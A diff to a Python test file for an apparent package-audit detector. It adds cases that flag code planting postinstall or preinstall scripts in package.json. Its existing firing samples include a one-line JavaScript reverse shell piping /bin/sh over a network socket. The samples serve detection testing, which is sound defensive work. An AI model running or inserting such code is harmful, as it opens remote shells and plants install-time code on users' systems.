@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from support.packages import analysed, contents
 
-from audit.analysis.mentions.passed import NEIGHBOUR, SENT, SHELL, WRITTEN
+from audit.analysis.mentions.passed import INSTALLS, NEIGHBOUR, SENT, SHELL, WRITTEN
 from audit.capabilities import mentions
 from audit.model.mention import Mentioned
 
@@ -45,8 +45,12 @@ FIRING = {
         "const s = net.connect(p, h), sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s)",
         SHELL,
     ),
+    "a script at install": ("pkg.scripts.postinstall = 'node a.cjs'; save(pkg)", INSTALLS),
+    "a script by its name": ("pkg.scripts['preinstall'] ??= 'node a.cjs'; save(pkg)", INSTALLS),
 }
 SILENT = {
+    "a script that is asked for": "if (pkg.scripts.postinstall === 'a') stop(); run(pkg.scripts.install)",
+    "a script of another kind": "pkg.scripts.prepare = 'husky'",
     "a path that was found": "which('git').then((git) => spawn(git, ['status']))",
     "an expression is matched": "get(a).then((t) => /x(.*)/.exec(t))",
     "an expression by name": "fetch(a).then((t) => pattern.exec(t))",
